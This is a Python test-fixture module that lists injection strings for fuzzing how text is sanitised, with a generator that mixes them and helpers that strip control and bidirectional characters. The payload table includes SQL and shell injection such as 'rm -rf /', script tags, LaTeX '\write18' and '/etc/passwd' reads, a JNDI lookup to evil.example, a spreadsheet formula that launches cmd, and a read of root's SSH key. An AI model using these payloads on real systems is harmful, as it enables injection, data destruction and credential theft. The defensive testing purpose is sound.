"""Texts that try to be more than text, and what of each a reader has to see."""

from __future__ import annotations

import random
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass

FORGED = "FORGED"
"""What every forged line begins with; no output may have a line that does."""

_BREAKS = ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1e", "\x85", "\u2028", "\u2029")
_TURNING = frozenset({"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"})  # of Unicode's bidi classes

ATTACKS = {
    "sql": "'; DROP TABLE works; -- ",
    "sql-like": "%' OR '1'='1\" UNION SELECT token FROM works /*",
    "shell": "$(touch /tmp/owned) `id` ; rm -rf / | cat > x && y",
    "html": "</p></title></style><script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'y\' href=javascript:alert(1) ',
    "entity": "&lt;script&gt; &#60;b&#62; &amp;amp; ]]> <![CDATA[ <!-- -->",
    "template": "{{ 7*7 }} {% raw %} {{ config }} <%= x %> #{x}",
    "latex": r"\input{/etc/passwd} \write18{id} \immediate\openout1=x $x$ 100 % & # _ ^^5cinput ~ \end{document}",
    "braces": "}} {{ } , title = {x}, } @article{evil, title={y}} {",
    "bibtex": "x},\n  author = {Evil, Eve},\n}\n@article{evil2,\n  title = {y",
    "ris": "x\nER  - \nTY  - JOUR\nTI  - evil\nAU  - Evil, Eve\n",
    "bidi": "abc\u202egnp.exe\u202c \u2066x\u2069 \u2067y \u202dz",
    "nul": "before\x00after",
    "escape": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;http://evil.example/\x1b\\link \x1bc \x08\x7f",
    "escape-c1": "\x9b2J \x9d0;title\x9c \x9b31mred \x90q\x9c",
    "path": "../../../../etc/passwd",
    "windows-path": r"C:\Windows\..\con.txt \\server\share",
    "dash": "-rf --output=/tmp/x",
    "home": "~root/.ssh/id_rsa ~",
    "format": "{0} {0.__class__} %s %n %(x)s ${x} ${jndi:ldap://evil.example/a} \\g<0> \\1",
    "formula-equals": "=cmd|'/c calc'!A1",
    "formula-plus": "+1+1",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)",
    "formula-tab": "\t=1+1",
    "formula-return": "\r=1+1",
    "formula-wide": "＝1+1",
    "formula-hidden": "\u200b=1+1",
    "csv": '",evil,"\r\n=1+1,"x;=1+1',
    "json": '"}],"evil":{"a":"b\\u0000\\',
    "metrics": 'x"} 1\ndl_lit_evil{a="b"} 2\n# TYPE evil counter',
    "journal": f"x\nPRIORITY=0\nMESSAGE={FORGED}\n",
    "log-line": f"x\n{FORGED} 2026-11-23T12:00:00Z [error] all is lost",
    "log-json": f'x\n{{"timestamp":"2026-11-23T12:00:00Z","level":"error","event":"{FORGED}"}}',
    "sse": "x\n\nevent: evil\ndata: {}\n\n",
    "surrogate": "half \ud83d a pair \udc00\udcff",
    "nfc": "\u00c5ngstr\u00f6m caf\u00e9",
    "nfd": "A\u030angstro\u0308m cafe\u0301",
    "rtl": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 (1) [x]",
    "astral": "\U0001f4a9 \U0001d49c \U00020000",
    "marks": "Z" + "\u0300\u0301\u0302" * 20,
    "reserved": "CON",
    "long": "very long " * 1_000,
    "long-word": "x" * 8_000,
}


@dataclass(frozen=True, slots=True)
class Attack:
    """A text with a name."""

    name: str
    text: str


def attacks(chance: random.Random, rounds: int) -> Iterator[Attack]:
    """Every attack as it is; after that, in `rounds` rounds, joined, cut and with breaks and controls strewn in."""
    for name, text in ATTACKS.items():
        yield Attack(name, text)
    for character in (*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0)), *_BREAKS):
        yield Attack(f"U+{ord(character[-1]):04X}", f"one{character}{FORGED} two")
    for number in range(rounds):
        parts = [ATTACKS[name][:200] for name in chance.sample(sorted(ATTACKS), chance.randint(1, 3))]
        glue = chance.choice((*_BREAKS, "", " ", "\x1b[", "\x00", "\u202e", "}", '"', "\ud800"))
        yield Attack(f"mixed-{number}", glue.join(parts)[chance.randint(0, 3) :] or "x")


def plain(text: str) -> str:
    """What of `text` is to be read: on one line, without what acts on readers; told by Unicode's own classes."""
    kept = (
        " " if one.isspace() else "" if unicodedata.category(one) in {"Cc", "Cs"} or _turns(one) else one
        for one in text
    )
    return " ".join("".join(kept).split())


def acting(text: str, allowed: str = "\n") -> list[str]:
    """The characters of `text` that act on whoever shows it, each once, as code points."""
    found = {
        one
        for one in set(text)  # some are thousands of times the same few letters
        if not one.isprintable()
        and one not in allowed
        and (unicodedata.category(one) in {"Cc", "Cs", "Zl", "Zp"} or _turns(one))
    }
    return sorted(f"U+{ord(one):04X}" for one in found)


def _turns(character: str) -> bool:
    return unicodedata.bidirectional(character) in _TURNING
